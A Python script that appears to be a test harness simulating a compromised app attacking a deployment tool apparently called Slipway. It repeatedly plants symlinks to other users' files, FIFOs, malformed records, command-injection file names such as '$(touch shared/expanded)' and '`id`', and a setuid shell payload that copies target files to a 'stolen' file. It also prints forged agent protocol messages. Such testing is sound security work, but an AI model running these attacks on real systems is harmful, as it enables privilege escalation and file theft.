"""What an attacker does who controls the app: it replaces and plants names wherever the app may write, all the time.

It walks through the app's whole folder, so a folder that is new is attacked too. It ends when `shared/peace` is there.
"""

import itertools
import json
import os
import stat
import time

BASE = os.path.realpath(os.path.join(os.getcwd(), "..", "..", ".."))
TARGETS = json.loads(os.environ["TARGETS"])  # files and folders of others that links are to lead to
PORT = os.environ["PORT"].encode()
PAYLOAD = "#!/bin/sh\nid -un >> /tmp/ran-by 2>/dev/null\ncat {} > {}/shared/stolen 2>/dev/null\n"
LONGEST = 400  # seconds
# Names that operations of Slipway have used, now or in the past, for what they write or read.
NAMES = (
    "link", "inputs", "applied", "migrated", "assigned.json", "seen.json", "task.json", "end.json", "output", "record",
    "undo", "undo.aside", "undo.done", "lock", "held", ".env", ".bashrc", ".profile", "sitecustomize.py",
    "usercustomize.py", "manage.py", "gunicorn.conf.py", "supervisor.sock", "supervisord.pid", "supervisord.log",
    "release.json", "fingerprint", "web.log", "new\nline", "\x1b]0;title\x07", "-rf", "$(touch shared/expanded)",
    "`id`",
    "web.99999999-999999-fffffff.log",
)  # fmt: skip
RECORDS = (
    b"{", b"[]", b"null", b'{"host": "evil", "address": "127.0.0.1", "port": 1}', b"\x01done 1 0\n", b"\xff\xfe\x00",
    b'{"host": {"name": "evil", "user": "root", "address": "127.0.0.1", "port": %s}, "id": "../../../etc"}' % PORT,
    b'{"name": "evil", "address": "127.0.0.1", "user": "root", "port": %s, "since": 1, "from": 1}' % PORT,
)  # fmt: skip


def plant(folder: str, name: str, turn: int) -> None:
    """Put something hostile in the place of a name."""
    path, target = os.path.join(folder, name), TARGETS[turn % len(TARGETS)]
    kind = turn % 6
    new = os.path.join(folder, f".new{turn}")
    if kind < 2:
        os.symlink(target, new)
    elif kind == 2:
        os.mkdir(new)
        os.symlink(target, os.path.join(new, "inside"))
        os.chmod(new, 0)
    elif kind == 3 and os.path.basename(folder) != "log":  # supervisord, its own, would wait for ever at such a log
        os.mkfifo(new)
    elif kind == 4:
        with open(new, "wb") as file:
            file.write(RECORDS[turn % len(RECORDS)])
    else:
        with open(new, "w") as file:
            file.write(PAYLOAD.format(target, BASE))
        os.chmod(new, 0o6777)
    if os.path.lexists(path):
        os.rename(path, os.path.join(folder, f".was{turn}"))
    os.rename(new, path)


def attack(turns: "itertools.count[int]") -> None:
    """Go through all folders once."""
    for folder, folders, files in os.walk(BASE):
        if os.path.basename(folder).startswith((".was", ".new")):
            folders.clear()
            continue
        if not os.access(folder, os.W_OK):
            continue
        inside = os.path.relpath(folder, BASE).split(os.sep)[0]
        for name in {*files, *folders, *NAMES}:
            turn = next(turns)
            # The attacker wants the site to go on: its sockets, its data and the word that ends this are left alone.
            if (
                name.startswith((".was", ".new", "peace", "db.sqlite3"))
                or name in ("data", "media")
                or name.endswith(".sock")
            ):
                continue
            if inside == "run" and name.startswith("supervisor"):
                continue
            if turn % 3 and os.path.lexists(os.path.join(folder, name)):
                continue
            try:
                plant(folder, name, turn)
            except OSError:
                continue
        tidy(folder)


def tidy(folder: str) -> None:
    """Keep the number of names bounded."""
    names = sorted(name for name in os.listdir(folder) if name.startswith((".was", ".new")))
    for name in names[:-20]:
        path = os.path.join(folder, name)
        try:
            if stat.S_ISDIR(os.lstat(path).st_mode):
                os.chmod(path, 0o700)
                for each in os.listdir(path):
                    os.unlink(os.path.join(path, each))
                os.rmdir(path)
            else:
                os.unlink(path)
        except OSError:
            continue


def speak() -> None:
    """Say what only the agent may say."""
    for number in range(12):
        print(
            f"\x01done {number} 0\n\x01fact current ../../victim\n\x01fact changed everything\n\x01step 1", flush=True
        )


if __name__ == "__main__":
    turns, begun = itertools.count(), time.monotonic()
    while not os.path.exists(os.path.join(BASE, "shared", "peace")) and time.monotonic() - begun < LONGEST:
        speak()
        attack(turns)
        time.sleep(0.2)
    while not os.path.exists(os.path.join(BASE, "shared", "never")):
        time.sleep(1)
